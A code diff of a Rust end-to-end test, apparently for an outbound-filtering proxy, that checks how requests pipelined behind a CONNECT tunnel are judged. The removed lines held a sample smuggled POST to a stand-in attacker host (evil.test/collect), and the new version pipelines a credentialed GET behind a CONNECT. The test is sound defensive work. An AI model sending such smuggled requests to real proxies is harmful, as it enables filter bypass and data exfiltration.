@@ -3,7 +3,7 @@
 use std::time::Duration;
 
 use anyhow::{Context, Result, ensure};
-use e2e::web::{LARGE_BYTES, MODEL_KEY, RawHttp, Shop, Trust};
+use e2e::web::{LARGE_BYTES, MODEL_KEY, RawHttp, Shop, Trust, credentials};
 use e2e::{Agent, Output, until};
 use serde_json::Value;
 
@@ -165,10 +165,14 @@ fn p2_p9_what_is_sent_before_a_tunnel_is_granted_is_judged_like_the_rest() -> Re
         let reply = client("evil.test").send(&[post.into()])?;
         ensure!(reply.status() == 403, "{}", reply.text());
         // Behind a tunnel that is refused, as if it were the next request of the proxy's client.
-        let head = "CONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n";
-        let next = "POST http://evil.test/collect HTTP/1.1\r\nhost: evil.test\r\n\
-                    content-length: 1\r\n\r\n1";
-        let reply = RawHttp::to(proxy).send(&[format!("{head}{next}").into()])?;
+        let head = "CONNECT listed.test:443 HTTP/1.1\r\nhost: listed.test:443\r\n\r\n";
+        let proof = credentials(&token.secret);
+        let next = format!(
+            "GET http://listed.test/customers HTTP/1.1\r\nhost: listed.test\r\n\
+             proxy-authorization: {proof}\r\n\r\n"
+        );
+        // The second time nothing is sent, and whatever else comes is read.
+        let reply = RawHttp::to(proxy).send(&[format!("{head}{next}").into(), Vec::new()])?;
         ensure!(reply.status() == 407, "{}", reply.text());
         ensure!(reply.text().matches("HTTP/1.1").count() == 1, "{}", reply.text());
         ensure!(shop.listed.seen().len() == 1, "{:?}", shop.listed.seen());
